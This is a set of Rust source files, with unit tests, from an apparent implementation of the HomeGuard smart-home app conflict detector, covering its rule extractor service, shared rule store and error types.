        assert!(text.contains("Mini#3"), "{text}");
    }
}
