//! The rule-extractor service and app database (paper Fig. 6, §VIII-C).
//!
//! The backend hosts rules extracted offline from the public app store
//! (stored as JSON rule files) and extracts custom apps on demand. The
//! phone app queries it by app name during installation.

use hg_rules::json::{rules_from_text, rules_to_text};
use hg_rules::rule::Rule;
use hg_symexec::{extract, AppAnalysis, ExtractError, ExtractorConfig};
use std::collections::BTreeMap;

/// The rule extractor service with its rule database.
pub struct ExtractorService {
    config: ExtractorConfig,
    /// `app name → serialized rule file` — what the backend persists.
    database: BTreeMap<String, String>,
    /// Cached full analyses (inputs, warnings) for the frontend.
    analyses: BTreeMap<String, AppAnalysis>,
}

impl Default for ExtractorService {
    fn default() -> Self {
        ExtractorService::new()
    }
}

impl ExtractorService {
    /// A service using the extended extractor configuration (the paper's
    /// final state after modeling the special cases).
    pub fn new() -> ExtractorService {
        ExtractorService {
            config: ExtractorConfig::extended(),
            database: BTreeMap::new(),
            analyses: BTreeMap::new(),
        }
    }

    /// A service with a specific extractor configuration.
    pub fn with_config(config: ExtractorConfig) -> ExtractorService {
        ExtractorService { config, database: BTreeMap::new(), analyses: BTreeMap::new() }
    }

    /// Extracts an app and stores its rule file (the offline part of
    /// HomeGuard). Returns the analysis.
    ///
    /// # Errors
    ///
    /// Propagates extraction failures.
    pub fn ingest(&mut self, source: &str, fallback_name: &str) -> Result<&AppAnalysis, ExtractError> {
        let analysis = extract(source, fallback_name, &self.config)?;
        let name = analysis.name.clone();
        self.database.insert(name.clone(), rules_to_text(&analysis.rules));
        self.analyses.insert(name.clone(), analysis);
        Ok(&self.analyses[&name])
    }

    /// Queries the stored rules for `app` (the phone app's online request).
    pub fn rules_of(&self, app: &str) -> Option<Vec<Rule>> {
        let text = self.database.get(app)?;
        rules_from_text(text).ok()
    }

    /// The stored analysis for `app`.
    pub fn analysis_of(&self, app: &str) -> Option<&AppAnalysis> {
        self.analyses.get(app)
    }

    /// The serialized rule-file size in bytes for `app` (§VIII-C measures
    /// an average of ~6.2 KB per app).
    pub fn rule_file_size(&self, app: &str) -> Option<usize> {
        self.database.get(app).map(String::len)
    }

    /// Number of apps in the database.
    pub fn len(&self) -> usize {
        self.database.len()
    }

    /// Whether the database is empty.
    pub fn is_empty(&self) -> bool {
        self.database.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const APP: &str = r#"
definition(name: "Mini")
input "m", "capability.motionSensor"
input "lamp", "capability.switch", title: "lamp"
def installed() { subscribe(m, "motion.active", h) }
def h(evt) { lamp.on() }
"#;

    #[test]
    fn ingest_and_query_roundtrip() {
        let mut svc = ExtractorService::new();
        svc.ingest(APP, "Mini").unwrap();
        let rules = svc.rules_of("Mini").unwrap();
        assert_eq!(rules.len(), 1);
        assert_eq!(rules[0].actions[0].command, "on");
        assert!(svc.rule_file_size("Mini").unwrap() > 50);
        assert_eq!(svc.len(), 1);
    }

    #[test]
    fn missing_app_is_none() {
        let svc = ExtractorService::new();
        assert!(svc.rules_of("Nope").is_none());
        assert!(svc.is_empty());
    }

    #[test]
    fn database_round_trips_through_json() {
        let mut svc = ExtractorService::new();
        let analysis_rules = svc.ingest(APP, "Mini").unwrap().rules.clone();
        let from_db = svc.rules_of("Mini").unwrap();
        assert_eq!(from_db, analysis_rules);
    }
}
