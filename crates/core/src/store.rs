//! The process-wide rule store (paper Fig. 6, §VIII-C — the extractor
//! service and its app database, redesigned for multi-home service).
//!
//! One HomeGuard backend serves many homes, but the rules of a store app do
//! not depend on the home installing it — extraction is a pure function of
//! the app source. [`RuleStore`] therefore lives *above* the per-home
//! sessions: it is created once, wrapped in an [`Arc`], and shared
//! read-only by every [`Home`](crate::Home). Ingestion uses interior
//! mutability (an `RwLock` around the database) so the store can keep
//! absorbing newly-published apps while homes hold references to it, and
//! re-ingesting an unchanged source is a cache hit — one extraction serves
//! every home installing the same store app.

use crate::error::HgError;
use hg_detector::VerdictCache;
use hg_rules::json::{rules_from_text, rules_to_text};
use hg_rules::rule::Rule;
use hg_symexec::{extract, AppAnalysis, ExtractorConfig};
use std::collections::hash_map::DefaultHasher;
use std::collections::BTreeMap;
use std::hash::{Hash, Hasher};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, PoisonError, RwLock, RwLockReadGuard, RwLockWriteGuard};

/// The shared rule database: extraction backend + per-app rule files.
pub struct RuleStore {
    /// Extractor configuration, fixed at store creation.
    config: ExtractorConfig,
    inner: RwLock<StoreInner>,
    /// How often `ingest` was answered from cache instead of re-extracting.
    /// Atomic so the cache-hit fast path stays on the read lock.
    cache_hits: AtomicU64,
    /// Bumped every time an ingest **persists** a new fingerprint (cache
    /// hits don't move it). Journaling callers compare it across an
    /// operation as a free absent→present pre-filter, so the steady-state
    /// install path never re-hashes the source just to learn nothing
    /// changed.
    ingest_epoch: AtomicU64,
    /// The fleet-shared pair-verdict cache. Owned here — the store is the
    /// one object every home already shares — and threaded through each
    /// session's detector, so two homes checking the same store-app pair
    /// under equivalent context solve it once. Runtime state only: it is
    /// never serialized, and [`RuleStore::restore_state`] starts empty.
    verdicts: Arc<VerdictCache>,
}

#[derive(Default)]
struct StoreInner {
    /// `app name → serialized rule file` — what the backend persists.
    database: BTreeMap<String, String>,
    /// Cached full analyses (inputs, warnings) for the frontend.
    analyses: BTreeMap<String, Arc<AppAnalysis>>,
    /// `(source, fallback name) fingerprint → analysis`, the ingest dedup
    /// cache. Invariant: every entry serves the analysis its app's
    /// database entry currently round-trips to — when an upgrade replaces
    /// an app's entry, the pre-upgrade fingerprints are retired (see
    /// `app_fingerprints`), so a stale fingerprint can never answer an
    /// ingest with a pre-upgrade analysis.
    by_fingerprint: BTreeMap<u64, Arc<AppAnalysis>>,
    /// `app name → live fingerprints` — the retirement index. Upgrade and
    /// retraction walk it to drop exactly the app's stale cache entries.
    app_fingerprints: BTreeMap<String, Vec<u64>>,
}

impl Default for RuleStore {
    fn default() -> Self {
        RuleStore::new()
    }
}

impl RuleStore {
    /// A store using the extended extractor configuration (the paper's
    /// final state after modeling the special cases).
    pub fn new() -> RuleStore {
        RuleStore::with_config(ExtractorConfig::extended())
    }

    /// A store with a specific extractor configuration.
    pub fn with_config(config: ExtractorConfig) -> RuleStore {
        RuleStore {
            config,
            inner: RwLock::new(StoreInner::default()),
            cache_hits: AtomicU64::new(0),
            ingest_epoch: AtomicU64::new(0),
            verdicts: Arc::new(VerdictCache::new()),
        }
    }

    /// The fleet-shared pair-verdict cache this store owns. Homes attach
    /// it to their detectors (the default); callers can inspect hit rates
    /// or evict apps through it directly.
    pub fn verdict_cache(&self) -> &Arc<VerdictCache> {
        &self.verdicts
    }

    /// A fresh store already wrapped for sharing across homes.
    pub fn shared() -> Arc<RuleStore> {
        Arc::new(RuleStore::new())
    }

    /// Poison recovery: the store's state is a monotonic cache of pure
    /// extraction results (every write is a whole-entry insert), so a
    /// panicking writer cannot leave an entry half-updated in a way reads
    /// can't tolerate. Recover the data instead of propagating the poison
    /// to every session sharing the store.
    fn read_inner(&self) -> RwLockReadGuard<'_, StoreInner> {
        self.inner.read().unwrap_or_else(PoisonError::into_inner)
    }

    fn write_inner(&self) -> RwLockWriteGuard<'_, StoreInner> {
        self.inner.write().unwrap_or_else(PoisonError::into_inner)
    }

    /// Extracts an app and stores its rule file (the offline part of
    /// HomeGuard). Returns the analysis.
    ///
    /// Ingest is idempotent per `(source, fallback name)`: a repeated
    /// ingest returns the cached analysis of exactly that source without
    /// re-running extraction — this is what makes the store safe and cheap
    /// to share across every home that installs the same store app. The
    /// fallback name participates in the fingerprint because extraction of
    /// an unnamed app derives its rule identities from it.
    ///
    /// # Errors
    ///
    /// [`HgError::Extract`] when symbolic extraction of the source fails.
    pub fn ingest(&self, source: &str, fallback_name: &str) -> Result<Arc<AppAnalysis>, HgError> {
        self.ingest_checked(source, fallback_name, false)
    }

    /// [`ingest`](RuleStore::ingest) that **persists only if** the source
    /// actually declares `name` — the upgrade submission path. A source
    /// declaring a different app name is refused with
    /// [`HgError::UpgradeRenames`] *before* anything lands in the
    /// database, so a rejected (possibly attacker-controlled) submission
    /// cannot publish a new app store-wide as a side effect.
    ///
    /// # Errors
    ///
    /// [`HgError::Extract`] from extraction; [`HgError::UpgradeRenames`]
    /// on a name mismatch.
    pub fn ingest_as(&self, source: &str, name: &str) -> Result<Arc<AppAnalysis>, HgError> {
        self.ingest_checked(source, name, true)
    }

    /// Whether an [`ingest`](RuleStore::ingest) (or
    /// [`ingest_as`](RuleStore::ingest_as)) of exactly this `(source, name)`
    /// pair has already been served and persisted. Used by journaling
    /// callers to tell a fresh ingest (worth a journal record) from a
    /// fingerprint-cache hit (a no-op on store state).
    pub fn has_ingested(&self, source: &str, name: &str) -> bool {
        self.read_inner()
            .by_fingerprint
            .contains_key(&Self::fingerprint_of(source, name))
    }

    /// A counter that moves **only** when an ingest persists a new
    /// fingerprint. Two equal reads around an operation prove no fresh
    /// ingest happened anywhere in the store during it — the cheap
    /// pre-filter journaling uses before paying a
    /// [`has_ingested`](RuleStore::has_ingested) source hash.
    pub fn ingest_epoch(&self) -> u64 {
        self.ingest_epoch.load(Ordering::Acquire)
    }

    /// Whether `app`'s cached analysis holds exactly `rules`, without
    /// cloning the rule set (unlike [`rules_of`](RuleStore::rules_of)).
    /// Entries without a cached analysis answer `false` — callers that
    /// dedup against the store fall back to carrying the rules inline.
    pub fn rules_eq(&self, app: &str, rules: &[Rule]) -> bool {
        self.read_inner()
            .analyses
            .get(app)
            .is_some_and(|analysis| analysis.rules == rules)
    }

    fn fingerprint_of(source: &str, name: &str) -> u64 {
        let mut h = DefaultHasher::new();
        source.hash(&mut h);
        name.hash(&mut h);
        h.finish()
    }

    fn ingest_checked(
        &self,
        source: &str,
        name: &str,
        must_match: bool,
    ) -> Result<Arc<AppAnalysis>, HgError> {
        let fingerprint = Self::fingerprint_of(source, name);
        // Fast path under the read lock: same ingest already served. (A
        // cached analysis was persisted by a prior successful ingest, so
        // the name check still applies but persistence cannot regress.)
        let cached = self.read_inner().by_fingerprint.get(&fingerprint).cloned();
        let analysis = match cached {
            Some(analysis) => {
                self.cache_hits.fetch_add(1, Ordering::Relaxed);
                if must_match && analysis.name != name {
                    return Err(HgError::UpgradeRenames {
                        installed: name.to_string(),
                        new: analysis.name.clone(),
                    });
                }
                return Ok(analysis);
            }
            None => Arc::new(
                extract(source, name, &self.config)
                    .map_err(|error| HgError::extract(name, error))?,
            ),
        };
        if must_match && analysis.name != name {
            return Err(HgError::UpgradeRenames {
                installed: name.to_string(),
                new: analysis.name.clone(),
            });
        }
        let app = analysis.name.clone();
        let mut inner = self.write_inner();
        // This ingest replaces whatever the app's database entry was (an
        // upgrade, or a re-publish under a different fallback name), so
        // the fingerprints that served the previous analysis are retired:
        // a pre-upgrade fingerprint must never keep answering ingests with
        // the pre-upgrade analysis after the entry changed underneath it.
        if let Some(stale) = inner.app_fingerprints.remove(&app) {
            let replaced_content = !stale.contains(&fingerprint);
            for fp in stale {
                if fp != fingerprint {
                    inner.by_fingerprint.remove(&fp);
                }
            }
            // Upgrade re-ingest: the app's rules changed, so every
            // memoized pair verdict involving it is dead weight. (Verdict
            // keys are content-addressed, so this is reclamation, not a
            // correctness requirement — a v1 verdict can never answer for
            // v2's rules.)
            if replaced_content {
                self.verdicts.evict_app(&app);
            }
        }
        inner
            .database
            .insert(app.clone(), rules_to_text(&analysis.rules));
        inner.by_fingerprint.insert(fingerprint, analysis.clone());
        inner
            .app_fingerprints
            .insert(app.clone(), vec![fingerprint]);
        inner.analyses.insert(app, analysis.clone());
        self.ingest_epoch.fetch_add(1, Ordering::Release);
        Ok(analysis)
    }

    /// Removes a store-pulled (e.g. discovered-malicious) app from the
    /// database entirely: its rule file, its cached analysis and every
    /// live fingerprint, so neither a query nor a dedup-cache hit can
    /// resurrect it. Returns whether the app was present. Homes keep
    /// their installed rule copies — retraction from every session is the
    /// fleet's job (`Fleet::force_uninstall` composes both).
    pub fn retire_app(&self, app: &str) -> bool {
        let mut inner = self.write_inner();
        let present = inner.database.remove(app).is_some();
        inner.analyses.remove(app);
        if let Some(fps) = inner.app_fingerprints.remove(app) {
            for fp in fps {
                inner.by_fingerprint.remove(&fp);
            }
        }
        // A retired app's memoized pair verdicts are unreachable garbage;
        // reclaim them fleet-wide.
        self.verdicts.evict_app(app);
        present
    }

    /// Queries the stored rules for `app` (the phone app's online request).
    ///
    /// Served from the cached analysis when one exists — every install of
    /// a store app used to re-parse the serialized rule file, which
    /// profiling showed was **more than half** the cost of a fleet-wide
    /// install grid. The rule file is parsed only for entries without a
    /// cached analysis (e.g. restored from a pre-analysis snapshot or
    /// injected by hand); ingest keeps entry and analysis in lockstep, and
    /// the serialization round-trip itself stays covered by the store
    /// tests.
    ///
    /// # Errors
    ///
    /// [`HgError::UnknownApp`] when `app` was never ingested;
    /// [`HgError::Parse`] when the stored rule file is corrupt (previously
    /// swallowed into an empty answer).
    pub fn rules_of(&self, app: &str) -> Result<Vec<Rule>, HgError> {
        let inner = self.read_inner();
        if let Some(analysis) = inner.analyses.get(app) {
            return Ok(analysis.rules.clone());
        }
        let text = inner
            .database
            .get(app)
            .ok_or_else(|| HgError::UnknownApp(app.to_string()))?;
        rules_from_text(text).map_err(|detail| HgError::Parse {
            app: app.to_string(),
            detail,
        })
    }

    /// Whether `app` has been ingested into the database.
    pub fn has_app(&self, app: &str) -> bool {
        self.read_inner().database.contains_key(app)
    }

    /// The stored analysis for `app`.
    pub fn analysis_of(&self, app: &str) -> Option<Arc<AppAnalysis>> {
        self.read_inner().analyses.get(app).cloned()
    }

    /// The serialized rule-file size in bytes for `app` (§VIII-C measures
    /// an average of ~6.2 KB per app).
    pub fn rule_file_size(&self, app: &str) -> Option<usize> {
        self.read_inner().database.get(app).map(String::len)
    }

    /// Names of every ingested app.
    pub fn app_names(&self) -> Vec<String> {
        self.read_inner().database.keys().cloned().collect()
    }

    /// Number of apps in the database.
    pub fn len(&self) -> usize {
        self.read_inner().database.len()
    }

    /// Whether the database is empty.
    pub fn is_empty(&self) -> bool {
        self.read_inner().database.is_empty()
    }

    /// How many ingests were served from cache (same source, no
    /// re-extraction).
    pub fn cache_hits(&self) -> u64 {
        self.cache_hits.load(Ordering::Relaxed)
    }

    /// The extractor configuration the store was created with.
    pub fn config(&self) -> &ExtractorConfig {
        &self.config
    }

    /// Extracts the persistable state: every database entry with its
    /// cached analysis and live fingerprints, plus the extractor
    /// configuration. This is the raw material `hg-persist` serializes;
    /// the effort counters (`cache_hits`) are statistics, not state, and
    /// are deliberately not part of it.
    pub fn export_state(&self) -> StoreState {
        let inner = self.read_inner();
        StoreState {
            config: self.config.clone(),
            apps: inner
                .database
                .iter()
                .map(|(name, rule_file)| StoreAppState {
                    name: name.clone(),
                    rule_file: rule_file.clone(),
                    analysis: inner.analyses.get(name).cloned(),
                    fingerprints: inner
                        .app_fingerprints
                        .get(name)
                        .cloned()
                        .unwrap_or_default(),
                })
                .collect(),
        }
    }

    /// Rebuilds a store from exported state — the warm-restart path. The
    /// ingest dedup cache is restored along with the database: every live
    /// fingerprint resumes serving its app's analysis, so the first
    /// post-restart ingest of an unchanged source is a cache hit, not a
    /// re-extraction.
    pub fn restore_state(state: StoreState) -> RuleStore {
        let store = RuleStore::with_config(state.config);
        {
            let mut inner = store.write_inner();
            for app in state.apps {
                inner.database.insert(app.name.clone(), app.rule_file);
                if let Some(analysis) = app.analysis {
                    for &fp in &app.fingerprints {
                        inner.by_fingerprint.insert(fp, analysis.clone());
                    }
                    inner
                        .app_fingerprints
                        .insert(app.name.clone(), app.fingerprints);
                    inner.analyses.insert(app.name, analysis);
                }
            }
        }
        store
    }
}

/// One app's persisted store entry (see [`RuleStore::export_state`]).
#[derive(Debug, Clone)]
pub struct StoreAppState {
    /// The app name (database key).
    pub name: String,
    /// The serialized rule file exactly as the database holds it.
    pub rule_file: String,
    /// The cached full analysis, when one exists (a corrupt or manually
    /// injected entry may have none; queries still serve the rule file).
    pub analysis: Option<Arc<AppAnalysis>>,
    /// The live `(source, fallback name)` fingerprints serving `analysis`.
    pub fingerprints: Vec<u64>,
}

/// The persistable state of a [`RuleStore`].
#[derive(Debug, Clone)]
pub struct StoreState {
    /// Extractor configuration future ingests will run under.
    pub config: ExtractorConfig,
    /// Every database entry, sorted by app name.
    pub apps: Vec<StoreAppState>,
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::Arc;

    const APP: &str = r#"
definition(name: "Mini")
input "m", "capability.motionSensor"
input "lamp", "capability.switch", title: "lamp"
def installed() { subscribe(m, "motion.active", h) }
def h(evt) { lamp.on() }
"#;

    #[test]
    fn ingest_and_query_roundtrip() {
        let store = RuleStore::new();
        store.ingest(APP, "Mini").unwrap();
        let rules = store.rules_of("Mini").unwrap();
        assert_eq!(rules.len(), 1);
        assert_eq!(rules[0].actions[0].command, "on");
        assert!(store.rule_file_size("Mini").unwrap() > 50);
        assert_eq!(store.len(), 1);
        assert_eq!(store.app_names(), vec!["Mini".to_string()]);
    }

    #[test]
    fn missing_app_is_a_typed_error() {
        let store = RuleStore::new();
        assert!(matches!(
            store.rules_of("Nope"),
            Err(HgError::UnknownApp(app)) if app == "Nope"
        ));
        assert!(!store.has_app("Nope"));
        assert!(store.is_empty());
    }

    #[test]
    fn refused_renaming_ingest_publishes_nothing() {
        // A submission declaring a different app name is rejected BEFORE
        // anything lands in the shared database — a rejected upgrade must
        // not publish a new app store-wide as a side effect.
        let store = RuleStore::new();
        let renamed = APP.replace("Mini", "Backdoor");
        assert!(matches!(
            store.ingest_as(&renamed, "Mini"),
            Err(HgError::UpgradeRenames { installed, new })
                if installed == "Mini" && new == "Backdoor"
        ));
        assert!(!store.has_app("Backdoor"));
        assert!(store.is_empty());
        // The well-named path persists normally.
        store.ingest_as(APP, "Mini").unwrap();
        assert!(store.has_app("Mini"));
    }

    #[test]
    fn corrupt_rule_file_surfaces_as_parse_error() {
        // A corrupt database entry used to be swallowed into `None`; now it
        // is a typed `Parse` error naming the app.
        let store = RuleStore::new();
        store
            .write_inner()
            .database
            .insert("Bad".to_string(), "not json".to_string());
        assert!(matches!(
            store.rules_of("Bad"),
            Err(HgError::Parse { app, .. }) if app == "Bad"
        ));
    }

    #[test]
    fn poisoned_store_recovers_instead_of_panicking() {
        let store = RuleStore::shared();
        store.ingest(APP, "Mini").unwrap();
        // A writer panics while holding the write lock...
        let poisoner = store.clone();
        std::thread::spawn(move || {
            let _guard = poisoner.inner.write().unwrap();
            panic!("writer dies mid-critical-section");
        })
        .join()
        .unwrap_err();
        assert!(store.inner.is_poisoned());
        // ...and every accessor keeps serving the cached data.
        assert_eq!(store.rules_of("Mini").unwrap().len(), 1);
        assert_eq!(store.len(), 1);
        store.ingest(APP, "Mini").unwrap();
        assert!(store.cache_hits() >= 1);
    }

    #[test]
    fn database_round_trips_through_json() {
        // `rules_of` serves the cached analysis, so parse the stored rule
        // file explicitly: the serialized entry must reproduce the
        // analysis exactly (the invariant that makes the fast path safe).
        let store = RuleStore::new();
        let analysis_rules = store.ingest(APP, "Mini").unwrap().rules.clone();
        let text = {
            let inner = store.read_inner();
            inner.database.get("Mini").unwrap().clone()
        };
        let from_db = rules_from_text(&text).unwrap();
        assert_eq!(from_db, analysis_rules);
        assert_eq!(store.rules_of("Mini").unwrap(), analysis_rules);
    }

    #[test]
    fn rules_of_parses_entries_without_a_cached_analysis() {
        // A database entry with no analysis (snapshot from an older
        // process, manual injection) still answers through the parser.
        let store = RuleStore::new();
        let rules = store.ingest(APP, "Mini").unwrap().rules.clone();
        let text = rules_to_text(&rules);
        store
            .write_inner()
            .database
            .insert("Orphan".to_string(), text);
        assert_eq!(store.rules_of("Orphan").unwrap(), rules);
    }

    #[test]
    fn repeated_ingest_is_a_cache_hit() {
        let store = RuleStore::new();
        let first = store.ingest(APP, "Mini").unwrap();
        let second = store.ingest(APP, "Mini").unwrap();
        assert!(Arc::ptr_eq(&first, &second), "same analysis object");
        assert_eq!(store.cache_hits(), 1);
        assert_eq!(store.len(), 1);
    }

    #[test]
    fn upgrade_retires_the_pre_upgrade_fingerprint() {
        // Regression: v2 of "Mini" replaces the database entry. The v1
        // fingerprint used to survive and keep serving the pre-upgrade
        // analysis from cache while the database served v2 — an ingest
        // answered with rules that contradicted every by-name view. Now
        // the replacement retires the stale fingerprint: a later ingest
        // of the v1 source re-extracts, and every view (returned
        // analysis, `analysis_of`, `rules_of`) agrees again.
        let v2 = APP.replace("lamp.on()", "lamp.off()");
        let store = RuleStore::new();
        store.ingest(APP, "Mini").unwrap();
        store.ingest(&v2, "Mini").unwrap();
        assert_eq!(store.cache_hits(), 0);
        assert_eq!(store.rules_of("Mini").unwrap()[0].actions[0].command, "off");

        let again_v1 = store.ingest(APP, "Mini").unwrap();
        assert_eq!(store.cache_hits(), 0, "stale fingerprint must not hit");
        assert_eq!(again_v1.rules[0].actions[0].command, "on");
        // The re-ingest is a real publish: all views agree on v1 again.
        assert_eq!(store.rules_of("Mini").unwrap()[0].actions[0].command, "on");
        assert_eq!(
            store.analysis_of("Mini").unwrap().rules[0].actions[0].command,
            "on"
        );
        // And the fresh fingerprint is live: repeating it is a cache hit.
        store.ingest(APP, "Mini").unwrap();
        assert_eq!(store.cache_hits(), 1);
    }

    #[test]
    fn retire_app_removes_database_analysis_and_fingerprints() {
        let store = RuleStore::new();
        store.ingest(APP, "Mini").unwrap();
        assert!(store.retire_app("Mini"));
        assert!(!store.has_app("Mini"));
        assert!(store.analysis_of("Mini").is_none());
        assert!(store.is_empty());
        assert!(matches!(
            store.rules_of("Mini"),
            Err(HgError::UnknownApp(_))
        ));
        // The fingerprint died with the app: re-ingesting the identical
        // source is a fresh extraction, not a cache-hit resurrection.
        store.ingest(APP, "Mini").unwrap();
        assert_eq!(store.cache_hits(), 0);
        assert!(store.has_app("Mini"));
        // Retiring an unknown app reports absence.
        assert!(!store.retire_app("Ghost"));
    }

    #[test]
    fn lifecycle_evicts_the_apps_verdicts() {
        use crate::home::Home;

        const OTHER: &str = r#"
definition(name: "Other")
input "m", "capability.motionSensor"
input "lamp", "capability.switch", title: "lamp"
def installed() { subscribe(m, "motion.active", h) }
def h(evt) { lamp.off() }
"#;
        // Warm the verdict cache through a session's dirty install.
        let store = RuleStore::shared();
        let mut home = Home::new(store.clone());
        home.install_app(APP, "Mini", None).unwrap();
        let report = home.install_app(OTHER, "Other", None).unwrap();
        assert!(!report.is_clean());
        assert!(!store.verdict_cache().is_empty());

        // Upgrade re-ingest (changed content) evicts the app's verdicts...
        let v2 = OTHER.replace("lamp.off()", "lamp.on()");
        store.ingest(&v2, "Other").unwrap();
        assert!(
            store.verdict_cache().is_empty(),
            "the replaced app's verdicts must be reclaimed"
        );

        // ...an unchanged re-ingest (cache hit) evicts nothing...
        let check = home.check_install("Other").unwrap();
        assert!(check.is_clean(), "v2 agrees with Mini");
        assert!(!store.verdict_cache().is_empty());
        store.ingest(&v2, "Other").unwrap();
        assert!(!store.verdict_cache().is_empty());

        // ...and store retirement reclaims them too.
        store.retire_app("Other");
        assert!(store.verdict_cache().is_empty());
    }

    #[test]
    fn export_restore_round_trips_warm() {
        let store = RuleStore::new();
        store.ingest(APP, "Mini").unwrap();
        let restored = RuleStore::restore_state(store.export_state());
        assert_eq!(restored.len(), 1);
        assert_eq!(
            restored.rules_of("Mini").unwrap(),
            store.rules_of("Mini").unwrap()
        );
        assert_eq!(restored.analysis_of("Mini").unwrap().name, "Mini");
        // Warm restart: the dedup cache came back with the database, so
        // re-ingesting the unchanged source is a cache hit.
        restored.ingest(APP, "Mini").unwrap();
        assert_eq!(restored.cache_hits(), 1);
    }

    #[test]
    fn same_source_different_fallback_names_are_distinct() {
        // Unnamed apps derive rule identities from the fallback name, so
        // the dedup cache must not conflate them.
        let unnamed = r#"
input "m", "capability.motionSensor"
input "lamp", "capability.switch", title: "lamp"
def installed() { subscribe(m, "motion.active", h) }
def h(evt) { lamp.on() }
"#;
        let store = RuleStore::new();
        let a = store.ingest(unnamed, "AppA").unwrap();
        let b = store.ingest(unnamed, "AppB").unwrap();
        assert_eq!(a.name, "AppA");
        assert_eq!(b.name, "AppB");
        assert_eq!(store.cache_hits(), 0);
    }

    #[test]
    fn shared_store_serves_concurrent_ingest() {
        let store = RuleStore::shared();
        let handles: Vec<_> = (0..4)
            .map(|_| {
                let store = store.clone();
                std::thread::spawn(move || store.ingest(APP, "Mini").unwrap().rules.len())
            })
            .collect();
        for h in handles {
            assert_eq!(h.join().unwrap(), 1);
        }
        assert_eq!(store.len(), 1);
        // However the threads raced, a subsequent identical ingest is a hit.
        let before = store.cache_hits();
        store.ingest(APP, "Mini").unwrap();
        assert_eq!(store.cache_hits(), before + 1);
    }
}
