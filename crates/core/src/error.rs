//! The unified HomeGuard error taxonomy and fleet-level home identities.
//!
//! Before the fleet redesign, failures outside extraction either panicked
//! (`expect("rule store poisoned")`) or were silently swallowed
//! (`rules_from_text(..).ok()`). Every user-reachable entry point across
//! `homeguard-core`, `hg-service` and the runtime surfaces now returns
//! [`HgError`], so a caller driving thousands of homes can tell a missing
//! app from a corrupt rule file from a poisoned shard — and react per home
//! instead of crashing the service.

use hg_symexec::ExtractError;
use std::fmt;

/// Identity of one home inside a fleet registry (`hg-service`).
///
/// Handles are plain integers: `Copy`, `Ord` and cheap to pass across
/// threads. The fleet assigns them densely at
/// [`create_home`](https://docs.rs/hg-service) time and uses them to route
/// to the owning shard.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct HomeId(u64);

impl HomeId {
    /// Wraps a raw id (fleet-internal; tests may forge ids to probe
    /// [`HgError::UnknownHome`]).
    pub fn new(raw: u64) -> HomeId {
        HomeId(raw)
    }

    /// The raw integer identity (shard routing key).
    pub fn raw(self) -> u64 {
        self.0
    }
}

impl fmt::Display for HomeId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "home-{}", self.0)
    }
}

/// Everything that can go wrong on a HomeGuard service entry point.
#[derive(Debug)]
#[non_exhaustive]
pub enum HgError {
    /// Symbolic extraction of an app's source failed.
    Extract {
        /// The app whose source was being extracted.
        app: String,
        /// The underlying extractor failure.
        error: ExtractError,
    },
    /// A stored rule file failed to parse back into rules — a corrupt
    /// database entry, previously swallowed into "app has no rules".
    Parse {
        /// The app whose rule file is corrupt.
        app: String,
        /// The parser's diagnosis.
        detail: String,
    },
    /// No home with this id is registered in the fleet.
    UnknownHome(HomeId),
    /// The app is not in the rule store (or not installed where the
    /// operation requires it to be).
    UnknownApp(String),
    /// A lifecycle operation (uninstall, upgrade) targeted an app whose
    /// installation was never confirmed in this home.
    UnconfirmedInstall(String),
    /// The app's installation is already confirmed in this home; use
    /// `upgrade_app` to replace it.
    AlreadyInstalled(String),
    /// An upgrade's new source declares a different app name than the
    /// installed app it was submitted for.
    UpgradeRenames {
        /// The app name the upgrade was submitted for.
        installed: String,
        /// The name the new source actually declares.
        new: String,
    },
    /// A lock was poisoned by a panicking writer and the guarded state
    /// cannot be trusted (fleet shards; the rule store itself recovers).
    Poisoned(&'static str),
    /// A persisted snapshot could not be decoded: corrupt bytes, a wrong
    /// or missing schema version, or a structurally invalid document.
    /// Restoration fails as a whole — a snapshot is never half-applied.
    Snapshot(String),
    /// The write-ahead journal failed: an append could not be made
    /// durable, a stored record or checkpoint is corrupt, or replay hit a
    /// record the live fleet refuses. The in-memory operation that
    /// triggered a failed append has still been applied — the error tells
    /// the caller its durability guarantee lapsed, not that state is bad.
    Journal(String),
    /// The service is running degraded — its write-ahead journal is
    /// quarantined after exhausting I/O retries — and the configured
    /// degraded policy refuses this write. Unlike [`HgError::Journal`],
    /// nothing was applied: the mutation was rejected up front and can be
    /// retried verbatim once the journal heals. Reads keep serving.
    Degraded(String),
}

impl HgError {
    /// Extraction failure for `app`.
    pub fn extract(app: impl Into<String>, error: ExtractError) -> HgError {
        HgError::Extract {
            app: app.into(),
            error,
        }
    }
}

impl fmt::Display for HgError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            HgError::Extract { app, error } => write!(f, "extraction of `{app}` failed: {error}"),
            HgError::Parse { app, detail } => {
                write!(f, "stored rule file of `{app}` is corrupt: {detail}")
            }
            HgError::UnknownHome(id) => write!(f, "no such home: {id}"),
            HgError::UnknownApp(app) => write!(f, "unknown app: `{app}`"),
            HgError::UnconfirmedInstall(app) => {
                write!(f, "`{app}` has no confirmed installation in this home")
            }
            HgError::AlreadyInstalled(app) => {
                write!(f, "`{app}` is already installed in this home")
            }
            HgError::UpgradeRenames { installed, new } => {
                write!(
                    f,
                    "upgrade of `{installed}` declares a different name `{new}`"
                )
            }
            HgError::Poisoned(what) => write!(f, "poisoned lock: {what}"),
            HgError::Snapshot(detail) => write!(f, "invalid snapshot: {detail}"),
            HgError::Journal(detail) => write!(f, "journal failure: {detail}"),
            HgError::Degraded(detail) => write!(f, "service degraded: {detail}"),
        }
    }
}

impl std::error::Error for HgError {
    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
        match self {
            HgError::Extract { error, .. } => Some(error),
            _ => None,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn display_forms_are_informative() {
        let e = HgError::UnknownApp("Ghost".into());
        assert!(e.to_string().contains("Ghost"));
        let e = HgError::UnknownHome(HomeId::new(7));
        assert!(e.to_string().contains("home-7"));
        let e = HgError::Parse {
            app: "Bad".into(),
            detail: "not json".into(),
        };
        assert!(e.to_string().contains("corrupt"));
        let e = HgError::UpgradeRenames {
            installed: "A".into(),
            new: "B".into(),
        };
        assert!(e.to_string().contains("different name"));
        let e = HgError::Journal("segment 3 torn".into());
